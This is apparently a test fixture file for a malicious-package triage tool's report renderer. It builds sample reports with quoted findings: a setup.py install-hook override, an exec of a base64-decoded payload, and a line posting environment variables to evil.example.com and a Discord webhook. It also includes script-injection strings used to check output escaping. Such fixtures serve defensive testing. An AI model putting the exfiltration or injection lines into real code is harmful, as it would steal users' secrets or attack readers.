"""Hand-built Reports for the renderer tests (no pipeline involved)."""

from __future__ import annotations

from dataclasses import replace

from triage.model import (
    ArtifactInfo,
    ChainStep,
    Finding,
    IndicatorInfo,
    Phase,
    Report,
    SkippedFile,
    Source,
    Verdict,
)

SHA = "3f1c9a0e5b7d2c4f6a8e0b1d3c5f7a9e2b4d6f8a0c1e3b5d7f9a2c4e6b8d0f1a"
WEBHOOK = "https://discord.com/api/webhooks/" "123456789012345678/AbCdEf-token"

HOOK = Finding(
    file="setup.py",
    start_line=10,
    end_line=10,
    code="class PostInstall(install):",
    indicator="code_execution_install_hook_override",
    type="Execution Stage",
    phase=Phase.INSTALL,
    severity="high",
    confidence=0.9,
    source=Source.STATIC,
    justification="PostInstall overrides the setuptools install command, so its run() executes "
    "during pip install.",
    statement_id="setup.py:10:0",
)
ENCODED = Finding(
    file="setup.py",
    start_line=12,
    end_line=13,
    code='        exec(base64.b64decode(\n            "aW1wb3J0IHJlcXVlc3Rz"))',
    indicator="code_execution_encoded_command",
    type="Execution Mechanism",
    phase=Phase.INSTALL,
    severity="critical",
    confidence=0.95,
    source=Source.BOTH,
    justification="Executes a base64-decoded payload with exec() while installing.",
    statement_id="setup.py:12:0",
)
EXFIL = Finding(
    file="setup.py#decoded-1",
    start_line=3,
    end_line=3,
    code=f'requests.post("https://evil.example.com/collect", data=os.environ); '
    f'requests.post("{WEBHOOK}", json={{"u": os.getlogin()}})',
    indicator="code_exfiltration_data",
    type="Exfiltration",
    phase=Phase.INSTALL,
    severity="high",
    confidence=0.7,
    source=Source.LLM,
    justification="Posts environment variables to https://evil.example.com/collect and a "
    "Discord webhook.",
    statement_id="setup.py#decoded-1:3:0",
    origin="setup.py:12:0",
)

INDICATORS = (
    IndicatorInfo(
        id="code_execution_install_hook_override",
        name="Install hook override",
        type="Execution Stage",
        severity="high",
        cwe="CWE-506",
        attack=("T1195.001", "T1059.006"),
        definition="A setuptools command class is overridden so code runs at install time.",
    ),
    IndicatorInfo(
        id="code_execution_encoded_command",
        name="Encoded command execution",
        type="Execution Mechanism",
        severity="critical",
        cwe="CWE-506",
        attack=("T1027", "T1140", "T1059.006"),
        definition="Encoded code or commands are decoded and executed.",
    ),
    IndicatorInfo(
        id="code_exfiltration_data",
        name="Data exfiltration",
        type="Exfiltration",
        severity="high",
        cwe="CWE-506",
        attack=("T1567.004",),
        definition="Host or user data is sent to a remote endpoint.",
    ),
)


def malicious_report(**changes: object) -> Report:
    """Three findings (one in a decoded payload with an origin), a chain, two skipped members."""
    report = Report(
        artifact=ArtifactInfo(
            name="evilpkg",
            version="1.0.2",
            sha256=SHA,
            kind="sdist",
            source="evilpkg-1.0.2.tar.gz",
        ),
        verdict=Verdict(
            label="malicious",
            score=96.5,
            reasons=(
                "install hook runs an encoded payload",
                "payload exfiltrates data to evil.example.com",
            ),
        ),
        findings=(HOOK, ENCODED, EXFIL),
        skipped=(
            SkippedFile("evilpkg/bin/payload.exe", "binary file (PE executable)", evidence=True),
            SkippedFile("evilpkg/logo.png", "binary file (PNG image)"),
        ),
        chain=(
            ChainStep(Phase.INSTALL, "code_execution_install_hook_override", 0),
            ChainStep(Phase.INSTALL, "code_execution_encoded_command", 1),
            ChainStep(Phase.INSTALL, "code_exfiltration_data", 2),
        ),
        indicators=INDICATORS,
        files_analysed=("setup.py", "setup.py#decoded-1", "evilpkg/__init__.py"),
        elapsed_s=1.25,
        engine="anthropic/claude-sonnet-4",
        notes=("evilpkg/big.py was not reviewed by the LLM (too large)",),
    )
    return replace(report, **changes)  # type: ignore[arg-type]


def benign_report() -> Report:
    """Nothing found, nothing skipped."""
    return Report(
        artifact=ArtifactInfo(
            name="goodpkg", version="2.0", sha256="0" * 64, kind="wheel", source="goodpkg==2.0"
        ),
        verdict=Verdict(label="benign", score=0.0, reasons=("no indicators found",)),
        findings=(),
        skipped=(),
        files_analysed=("goodpkg/__init__.py",),
        elapsed_s=0.1,
    )


HOSTILE_CODE = (
    "x = '[bold red]boom[/]' # </code></pre><script>alert(1)</script>\n"
    "y = '''```\n# not a heading\n```'''"
)
HOSTILE_FILE = "pkg/<script>alert(1)</script>|a.py"


def hostile_report() -> Report:
    """A finding whose code and file name try to break out of every output format."""
    f = replace(
        HOOK,
        file=HOSTILE_FILE,
        start_line=7,
        end_line=10,
        code=HOSTILE_CODE,
        justification="Uses [red]markup[/red] and <b>html</b> | pipes.",
        statement_id=f"{HOSTILE_FILE}:7:0",
    )
    return malicious_report(
        findings=(f,),
        chain=(),
        skipped=(SkippedFile("<img src=x onerror=alert(1)>.so", "binary [bold]x[/bold]", True),),
    )
